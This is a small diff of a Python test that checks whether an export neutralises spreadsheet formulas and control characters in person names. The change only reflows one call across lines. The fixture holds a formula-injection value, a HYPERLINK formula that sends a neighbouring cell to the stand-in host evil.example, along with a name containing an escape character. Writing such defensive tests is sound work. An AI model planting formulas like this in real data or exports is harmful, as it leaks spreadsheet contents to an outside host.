@@ -318,7 +318,9 @@ def test_export_neutralises_formulas_and_control_characters_in_names(
 
     make_entry(case_manager_a, org_a, legal_first_name="Jean\x1bGuy", legal_last_name="Abel")
     make_entry(
-        case_manager_a, org_a, legal_first_name='=HYPERLINK("http://evil.example/?x="&A3,"Voir")',
+        case_manager_a,
+        org_a,
+        legal_first_name='=HYPERLINK("http://evil.example/?x="&A3,"Voir")',
         legal_last_name="Zed",
     )
     response = client_for(case_manager_a).get(EXPORT, {"format": export_format})
